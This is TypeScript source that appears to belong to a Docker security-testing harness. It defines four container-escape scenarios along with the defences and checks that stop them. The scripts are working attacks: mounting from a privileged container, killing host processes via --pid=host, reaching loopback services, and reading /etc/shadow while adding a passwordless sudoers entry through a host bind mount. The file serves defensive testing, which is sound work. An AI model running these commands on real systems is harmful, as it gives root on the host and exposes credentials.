import { Refusal, type Attack } from '../attack.ts'
import { proof, run } from '../stage/containers.ts'
import { ownerOf } from '../stage/host.ts'

const USER = 'anyone who may create containers'
const NO_USERNS = 'dockerd runs without user namespaces'
const USERNS = {
  stoppedBy: 'user namespaces',
  defence: 'With user namespaces, dockerd refuses to create such a container.',
} as const
const REMAINS = 'A client can turn user namespaces off: see [below](#a-client-becomes-root-on-the-host).'

/** Attacks by containers that share something with the host. */
export const NAMESPACES: readonly Attack[] = [
  {
    id: 'privileged',
    title: 'A privileged container controls the host',
    attacker: USER,
    setup: 'plain',
    wrong: NO_USERNS,
    how: '`--privileged` gives root in the container all capabilities, all devices of the host, and no seccomp profile. It can then mount the disk of the host, or load a kernel module.',
    attempt: async ({ user }) => {
      const script = 'grep CapEff /proc/self/status; mount -t tmpfs none /tmp && echo it may mount'
      const output = await run(user, { name: 'privileged', script, hostConfig: { Privileged: true } })
      proof(output, 'it may mount')
      return `has all capabilities, and may mount: ${proof(output, 'CapEff').replace(/\s+/g, ' ')}`
    },
    refusal: /privileged mode is incompatible with user namespaces/,
    ...USERNS,
    remains: REMAINS,
    signs: [
      { check: 'D-USERNS', ours: 'pass' },
      { check: 'C-PRIV', ours: 'absent' },
    ],
  },
  {
    id: 'host-processes',
    title: 'A container ends processes of the host',
    attacker: USER,
    setup: 'plain',
    wrong: NO_USERNS,
    how: 'With `--pid=host`, the container sees all processes of the host, and secrets in their arguments. As root, it can also end them.',
    attempt: async ({ user, host }) => {
      // The pattern doesn't match itself, and only the process of this run.
      const pattern = host.canary.replace(/^c/, '[c]')
      const script = `for p in /proc/[0-9]*; do
        grep -q 'backup-agent.*${pattern}' $p/cmdline && tr '\\0' ' ' <$p/cmdline && echo && kill -KILL \${p#/proc/} && echo ended
      done 2>/dev/null`
      // The profile of Docker for AppArmor allows no signals to the host. Who creates a container can turn it off.
      const hostConfig = { PidMode: 'host', SecurityOpt: ['apparmor=unconfined'] }
      const output = await run(user, { name: 'host-processes', script, hostConfig })
      proof(output, 'ended')
      await host.processEnded
      return `ended a process of the host, and read its arguments: ${proof(output, host.canary)}`
    },
    refusal: /cannot share the host PID namespace when user namespaces are enabled/,
    ...USERNS,
    remains: REMAINS,
    signs: [
      { check: 'D-USERNS', ours: 'pass' },
      { check: 'C-PID', ours: 'absent' },
    ],
  },
  {
    id: 'host-network',
    title: 'A container reaches services on loopback',
    attacker: USER,
    setup: 'plain',
    wrong: NO_USERNS,
    how: 'With `--network=host`, the container uses the network of the host. It reaches services that listen on 127.0.0.1 only, and often ask for no password there.',
    attempt: async ({ user, host }) => {
      const script = `wget -q -O - http://127.0.0.1:${host.servicePort}/; echo`
      const output = await run(user, { name: 'host-network', script, hostConfig: { NetworkMode: 'host' } })
      return `a service on 127.0.0.1 of the host answered: ${proof(output, host.canary)}`
    },
    refusal: /cannot share the host's network namespace when user namespaces are enabled/,
    ...USERNS,
    remains: REMAINS,
    signs: [
      { check: 'D-USERNS', ours: 'pass' },
      { check: 'C-NET', ours: 'absent' },
    ],
  },
  {
    id: 'root-by-certificate',
    title: 'A client becomes root on the host',
    attacker: 'anyone with a valid client certificate',
    setup: 'plain',
    wrong: 'nothing limits what a client may do',
    how: 'dockerd lets every client turn user namespaces off for a container: `--userns=host --privileged`. With `/` of the host in it, that container reads and writes everything there.',
    attempt: async ({ user, host }) => {
      const script = 'cat /host/etc/shadow; echo "mallory ALL=(ALL) NOPASSWD: ALL" >/host/etc/sudoers'
      const hostConfig = { Binds: ['/:/host'], Privileged: true, UsernsMode: 'host' }
      const output = await run(user, { name: 'root-by-certificate', script, hostConfig })
      const owner = await ownerOf(host, 'etc/sudoers')
      if (owner !== 0) throw new Refusal(`user ${owner} wrote /etc/sudoers`)
      return `wrote /etc/sudoers as root, and read /etc/shadow: ${proof(output, host.canary)}`
    },
    stoppedBy: 'nothing',
    defence:
      "Nothing. TLS decides who may connect, not what they may do. User namespaces don't help, because the client turns them off.",
    remains:
      "Give a client certificate only to people and machines that may be root on the host. An [access policy](policy.md) limits what each certificate may do, behind a [gateway](gateway.md) or in [dockerd's plugin](authz-plugin.md).",
    signs: [
      { check: 'D-AUTHZ', wrong: 'warn', ours: 'warn' },
      { check: 'C-PRIV', ours: 'fail' },
      { check: 'C-HOSTDIR', ours: 'fail' },
    ],
  },
]
